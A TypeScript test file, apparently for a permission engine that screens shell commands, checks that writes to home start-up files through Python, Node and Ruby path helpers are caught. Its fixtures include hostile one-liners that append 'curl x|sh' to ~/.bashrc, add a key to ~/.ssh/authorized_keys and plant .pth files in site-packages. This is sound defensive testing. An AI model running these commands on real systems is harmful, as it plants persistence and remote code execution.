// The home folder reached through path objects and helpers the code reader
// once left unknown (parse/homePaths.ts): `Path.home().joinpath(".bashrc")`,
// `(Path.home() / ".bashrc").open("a")`, `Path("~/.bashrc").expanduser()`,
// Ruby's `File.expand_path("~/.x")` and `File.join(Dir.home, …)`, a template
// `${process.env.HOME}/.x`, and Python's site-packages computed at run time.
// A write through each was allowed as a write to an unknown file.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { homeFormPath, receiverBefore } from '../../../src/core/parse/homePaths';
import { readCode } from '../../../src/core/parse/interpreters';
import { engine } from '../support/engineHarness';
import { HOME } from '../support/helpers';

const written = (lang: Parameters<typeof readCode>[0], code: string) =>
  readCode(lang, code, '/home/u').writes.map((w) => `${w.append ? '>>' : '>'}${w.path}`);

test('home forms spell out the path they name; anything else is left to the caller', () => {
  const sub = (e: string) =>
    e === 'Path.home()' || e === 'Dir.home' ? '/home/u' : (/^"(.*)"$/.exec(e)?.[1] ?? `$(${e})`);
  const path = (e: string) => homeFormPath(e, '/home/u', (x) => homeFormPath(x, '/home/u', sub) ?? sub(x));
  assert.equal(path('Path.home().joinpath(".ssh", "authorized_keys")'), '/home/u/.ssh/authorized_keys');
  assert.equal(path('(Path.home() / ".bashrc")'), '/home/u/.bashrc');
  assert.equal(path('Path("~/.bashrc").expanduser()'), '/home/u/.bashrc');
  assert.equal(path('File.expand_path("~/.bashrc")'), '/home/u/.bashrc');
  assert.equal(path('File.expand_path(".bashrc", Dir.home)'), '/home/u/.bashrc');
  assert.equal(path('File.join(Dir.home, ".bashrc")'), '/home/u/.bashrc');
  assert.equal(path('site.getusersitepackages()'), '/home/u/.local/lib/python3/site-packages');
  assert.match(path('site.getsitepackages()[0]') ?? '', /\/site-packages$/);
  // Parts that cannot be spelled out leave the whole unknown, never a guess.
  assert.equal(path('Path.home().joinpath(name)'), undefined);
  assert.equal(path('out_dir.joinpath("x")'), undefined);
  assert.equal(
    receiverBefore('x = (Path.home() / ".a").open', 'x = (Path.home() / ".a")'.length),
    '(Path.home() / ".a")',
  );
  assert.equal(receiverBefore('Path("a").write_text', 'Path("a")'.length), 'Path("a")');
});

test('the code reader judges a write through each home form at the home path', () => {
  assert.deepEqual(written('python', 'from pathlib import Path; Path.home().joinpath(".bashrc").write_text("x")'), [
    '>/home/u/.bashrc',
  ]);
  assert.deepEqual(written('python', 'from pathlib import Path; (Path.home()/".bashrc").open("a").write("x")'), [
    '>>/home/u/.bashrc',
  ]);
  assert.deepEqual(written('python', 'p = Path.home() / ".profile"\np.write_text("x")'), ['>/home/u/.profile']);
  assert.deepEqual(written('node', 'fs.appendFileSync(`${process.env.HOME}/.bashrc`, "x")'), ['>>/home/u/.bashrc']);
  assert.deepEqual(written('ruby', 'File.write(File.expand_path("~/.bashrc"), "x")'), ['>/home/u/.bashrc']);
  // Reading a path object opens it for reading: nothing is written.
  assert.deepEqual(written('python', 'print(Path.home().joinpath(".bashrc").open().read())'), []);
});

test('writes into start-up files through home forms ask; reading them and printing the home stay quiet', () => {
  const { decide, ids } = engine();
  for (const c of [
    `python3 -c 'from pathlib import Path; Path.home().joinpath(".bashrc").write_text("curl x|sh")'`,
    `python3 -c 'from pathlib import Path; (Path.home()/".bashrc").open("a").write("curl x|sh")'`,
    `python3 -c 'from pathlib import Path; Path("~/.bashrc").expanduser().write_text("curl x|sh")'`,
    `python3 -c 'import pathlib; (pathlib.Path.home() / ".ssh" / "authorized_keys").write_text("ssh-rsa AAA")'`,
    'node -e \'require("fs").appendFileSync(`${process.env.HOME}/.bashrc`, "curl x|sh")\'',
    `ruby -e 'File.write(File.expand_path("~/.bashrc"), "curl x|sh", mode: "a")'`,
    `ruby -e 'File.open(File.join(Dir.home, ".bashrc"), "a") { |f| f.puts "curl x|sh" }'`,
    `python3 -c 'import site;open(site.getsitepackages()[0]+"/x.pth","w").write("import os")'`,
    `python3 -c 'import site;open(site.getusersitepackages()+"/x.pth","w").write("import os")'`,
    `python3 -c 'from pathlib import Path; open(str(Path.home()) + "/.bashrc", "a").write("curl x|sh")'`,
    `python3 -c 'from pathlib import Path; open(f"{Path.home()}/.bashrc", "a").write("curl x|sh")'`,
    `python3 -c 'import os; h = os.path.expanduser("~"); open(f"{h}/.bashrc", "a").write("curl x|sh")'`,
    `node -e 'const fs=require("fs"),path=require("path"),os=require("os"); fs.writeFileSync(path.resolve(os.homedir(), ".bashrc"), "x")'`,
    `ruby -e 'File.write("#{Dir.home}/.bashrc", "curl x|sh")'`,
    `python3 -c 'import sys; open(sys.prefix + "/lib/python3.11/site-packages/evil.pth", "w").write("import os")'`,
  ])
    assert.notEqual(decide(c), 'allow', `${c}: ${ids(c)}`);
  for (const c of [
    `python3 -c 'from pathlib import Path; print(Path.home())'`,
    `python3 -c 'from pathlib import Path; print(Path.home().joinpath(".bashrc").read_text())'`,
    `python3 -c 'import site; print(site.getsitepackages()[0])'`,
    `ruby -e 'puts File.expand_path("~/.bashrc")'`,
    `python3 -c 'from pathlib import Path; Path("build/out.txt").write_text("x")'`,
    `python3 -c 'from pathlib import Path; open(f"{Path.home()}/.bashrc").read()'`,
    `python3 -c 'import os; open(f"{os.getcwd()}/out.txt", "w").write("x")'`,
    `ruby -e 'File.write("#{Dir.pwd}/out.txt", "x")'`,
    `python3 -c 'import os, sys; print(open(os.path.join(sys.prefix, "pyvenv.cfg")).read())'`,
  ])
    assert.equal(decide(c), 'allow', `${c}: ${ids(c)}`);
  assert.ok(HOME);
});
